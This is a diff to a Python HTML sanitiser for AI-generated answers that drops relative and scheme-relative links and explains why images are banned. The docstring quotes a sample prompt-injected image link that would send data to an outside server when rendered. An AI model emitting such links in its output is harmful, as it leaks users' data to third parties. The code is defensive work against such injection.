@@ -10,8 +10,10 @@ anyone's. Two layers, each enough alone for the obvious attacks:
 2. **nh3 (ammonia) with a strict allow-list** on the produced HTML: only the tags Markdown makes
    (no ``script``/``style``/``iframe``/``img``/``form``), no attribute but a link's ``href``/``title``
    and a table cell's ``colspan``/``rowspan``, no ``style``/``class``/``on*``, and links only to
-   ``http``, ``https`` and ``mailto`` (``javascript:`` and ``data:`` are dropped), opened in a new tab
-   with ``rel="noopener noreferrer nofollow"``.
+   absolute ``http``, ``https`` and ``mailto`` addresses (``javascript:``, ``data:`` and relative or
+   scheme-relative links such as ``/vision/api/…`` or ``//host`` lose their ``href``; their text
+   stays), opened in a new tab with ``rel="noopener noreferrer nofollow"``. A relative link would
+   point into this app, where the reader is logged in.
 
 Images are not allowed at all: an image URL is fetched by the browser the moment it is shown, which
 would let an answer send what it knows to any server (a prompt-injected "![](https://x/?q=…)").
@@ -45,6 +47,14 @@ def _image_as_text(renderer, tokens, idx, options, env) -> str:
 _PARSER.add_render_rule("image", _image_as_text)
 
 
+def _absolute_links_only(tag: str, attribute: str, value: str) -> str | None:
+    """nh3's schemes list lets relative URLs through: keep an ``href`` only with an allowed scheme."""
+    if tag == "a" and attribute == "href":
+        scheme, colon, _ = value.strip().partition(":")
+        return value if colon and scheme.lower() in URL_SCHEMES and not scheme.startswith("/") else None
+    return value
+
+
 def sanitise(html: str) -> str:
     """``html`` cut down to the allow-list: the last guard before an ``HTML`` widget."""
     return nh3.clean(
@@ -55,6 +65,7 @@ def sanitise(html: str) -> str:
         link_rel="noopener noreferrer nofollow",
         set_tag_attribute_values={"a": {"target": "_blank"}},
         strip_comments=True,
+        attribute_filter=_absolute_links_only,
     )
 
 
